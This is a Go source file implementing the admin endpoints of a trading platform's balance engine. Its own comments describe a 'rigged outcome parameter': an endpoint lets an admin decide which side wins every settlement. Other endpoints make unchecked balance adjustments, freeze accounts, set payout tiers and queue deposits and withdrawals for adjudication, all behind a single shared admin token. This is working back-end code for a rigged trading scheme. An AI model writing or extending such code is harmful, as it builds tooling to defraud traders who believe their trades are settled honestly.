// Package admin implements the admin control surface: the rigged
// outcome parameter, unchecked balance adjustments, user provisioning
// and settings, and the funding adjudication queues. Access control is
// a shared token checked at the network edge; there is no per-admin
// identity model.
package admin

import (
	"crypto/subtle"
	"encoding/json"
	"errors"
	"log/slog"
	"net/http"
	"time"

	"github.com/shopspring/decimal"

	"github.com/coinvex/balance-engine/internal/ledger"
	"github.com/coinvex/balance-engine/internal/model"
	"github.com/coinvex/balance-engine/internal/store"
	"github.com/coinvex/balance-engine/internal/symbol"
	"github.com/coinvex/balance-engine/internal/trading"
)

// Handler serves the admin endpoints.
type Handler struct {
	store   store.Store
	ledger  *ledger.Service
	outcome *trading.OutcomeCell
}

// NewHandler creates an admin handler.
func NewHandler(st store.Store, lg *ledger.Service, cell *trading.OutcomeCell) *Handler {
	return &Handler{store: st, ledger: lg, outcome: cell}
}

// RequireToken is middleware gating admin routes on the X-Admin-Token
// header.
func RequireToken(token string) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			got := r.Header.Get("X-Admin-Token")
			if got == "" || subtle.ConstantTimeCompare([]byte(got), []byte(token)) != 1 {
				writeError(w, "admin token required", http.StatusUnauthorized)
				return
			}
			next.ServeHTTP(w, r)
		})
	}
}

// --- Outcome parameter ---

type winSideRequest struct {
	Side string `json:"side"`
}

type winSideResponse struct {
	WinSide string `json:"winSide"`
}

// SetWinSide handles POST /admin/winside: unconditionally overwrites
// the side that settlements treat as the winner.
func (h *Handler) SetWinSide(w http.ResponseWriter, r *http.Request) {
	var req winSideRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		writeError(w, "invalid request body", http.StatusBadRequest)
		return
	}
	if req.Side != model.SideLong && req.Side != model.SideShort {
		writeError(w, "side must be long or short", http.StatusBadRequest)
		return
	}

	h.outcome.Set(req.Side)
	slog.Info("outcome parameter updated", "winSide", req.Side)
	writeJSON(w, http.StatusOK, winSideResponse{WinSide: req.Side})
}

// --- Balance adjustment ---

type adjustRequest struct {
	User     string          `json:"user"`
	Currency string          `json:"currency,omitempty"`
	Amount   decimal.Decimal `json:"amount"`
}

// AdjustBalance handles POST /admin/users/balance: a signed,
// sufficiency-unchecked correction. Currency defaults to the primary
// currency. Deliberately a separate operation from the checked debit
// path so the policy difference stays visible at call sites.
func (h *Handler) AdjustBalance(w http.ResponseWriter, r *http.Request) {
	var req adjustRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		writeError(w, "invalid request body", http.StatusBadRequest)
		return
	}
	if req.User == "" {
		writeError(w, "user is required", http.StatusBadRequest)
		return
	}
	currency := h.ledger.Primary()
	if req.Currency != "" {
		c, err := symbol.NormalizeCurrency(req.Currency)
		if err != nil {
			writeError(w, err.Error(), http.StatusBadRequest)
			return
		}
		currency = c
	}

	if err := h.ledger.Adjust(r.Context(), req.User, currency, req.Amount); err != nil {
		if errors.Is(err, store.ErrUserNotFound) {
			writeError(w, err.Error(), http.StatusNotFound)
			return
		}
		writeError(w, "internal error", http.StatusInternalServerError)
		return
	}

	slog.Info("balance adjusted", "user", req.User, "currency", currency, "amount", req.Amount.String())
	writeJSON(w, http.StatusOK, map[string]string{"status": "updated"})
}

// --- User provisioning and settings ---

type createUserRequest struct {
	Handle  string          `json:"handle"`
	Balance decimal.Decimal `json:"balance,omitempty"`
}

// CreateUser handles POST /admin/users. Registration itself lives in
// an external identity service; this endpoint provisions the ledger
// side of an account.
func (h *Handler) CreateUser(w http.ResponseWriter, r *http.Request) {
	var req createUserRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		writeError(w, "invalid request body", http.StatusBadRequest)
		return
	}
	if req.Handle == "" {
		writeError(w, "handle is required", http.StatusBadRequest)
		return
	}

	u := &model.User{
		Handle:         req.Handle,
		Balance:        req.Balance,
		Status:         model.StatusActive,
		MinTradeAmount: decimal.NewFromInt(10),
		CreatedAt:      time.Now().UTC(),
	}
	if err := h.store.CreateUser(r.Context(), u); err != nil {
		if errors.Is(err, store.ErrExists) {
			writeError(w, err.Error(), http.StatusConflict)
			return
		}
		writeError(w, "internal error", http.StatusInternalServerError)
		return
	}

	slog.Info("user provisioned", "handle", req.Handle)
	writeJSON(w, http.StatusCreated, u)
}

type settingsRequest struct {
	User           string            `json:"user"`
	Status         *string           `json:"status,omitempty"`
	MinTradeAmount *decimal.Decimal  `json:"minTradeAmount,omitempty"`
	Tiers          []model.TradeTier `json:"tiers,omitempty"`
}

// UpdateUserSettings handles POST /admin/users/settings: account
// status, minimum trade amount and trade tiers consumed by the
// settlement engine and the funding gate.
func (h *Handler) UpdateUserSettings(w http.ResponseWriter, r *http.Request) {
	var req settingsRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		writeError(w, "invalid request body", http.StatusBadRequest)
		return
	}
	if req.User == "" {
		writeError(w, "user is required", http.StatusBadRequest)
		return
	}
	if req.Status != nil && *req.Status != model.StatusActive && *req.Status != model.StatusFrozen {
		writeError(w, "status must be active or frozen", http.StatusBadRequest)
		return
	}
	if req.MinTradeAmount != nil && req.MinTradeAmount.IsNegative() {
		writeError(w, "minTradeAmount must not be negative", http.StatusBadRequest)
		return
	}
	for _, tier := range req.Tiers {
		if tier.DurationSec <= 0 || tier.PayoutPercent.IsNegative() {
			writeError(w, "invalid tier", http.StatusBadRequest)
			return
		}
	}

	err := h.store.UpdateUserSettings(r.Context(), req.User, req.Status, req.MinTradeAmount, req.Tiers)
	if err != nil {
		if errors.Is(err, store.ErrUserNotFound) {
			writeError(w, err.Error(), http.StatusNotFound)
			return
		}
		writeError(w, "internal error", http.StatusInternalServerError)
		return
	}

	slog.Info("user settings updated", "user", req.User)
	writeJSON(w, http.StatusOK, map[string]string{"status": "updated"})
}

// --- Adjudication queues ---

// ListDeposits handles GET /admin/deposits?status=pending.
func (h *Handler) ListDeposits(w http.ResponseWriter, r *http.Request) {
	deposits, err := h.store.ListDeposits(r.Context(), r.URL.Query().Get("status"))
	if err != nil {
		writeError(w, "failed to list deposits", http.StatusInternalServerError)
		return
	}
	if deposits == nil {
		deposits = []model.Deposit{}
	}
	writeJSON(w, http.StatusOK, deposits)
}

// ListWithdrawals handles GET /admin/withdrawals?status=pending.
func (h *Handler) ListWithdrawals(w http.ResponseWriter, r *http.Request) {
	withdrawals, err := h.store.ListWithdrawals(r.Context(), r.URL.Query().Get("status"))
	if err != nil {
		writeError(w, "failed to list withdrawals", http.StatusInternalServerError)
		return
	}
	if withdrawals == nil {
		withdrawals = []model.Withdrawal{}
	}
	writeJSON(w, http.StatusOK, withdrawals)
}

// --- HTTP helpers ---

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	json.NewEncoder(w).Encode(v)
}

// writeError writes a JSON error response.
func writeError(w http.ResponseWriter, message string, status int) {
	writeJSON(w, status, map[string]string{"error": message})
}
